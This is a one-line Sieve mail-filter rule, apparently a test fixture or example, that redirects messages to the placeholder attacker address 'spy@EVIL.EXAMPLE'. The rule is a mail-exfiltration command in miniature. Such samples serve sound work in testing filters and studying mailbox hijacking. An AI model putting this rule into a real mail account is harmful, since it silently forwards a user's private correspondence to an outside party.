redirect "spy@EVIL.EXAMPLE";
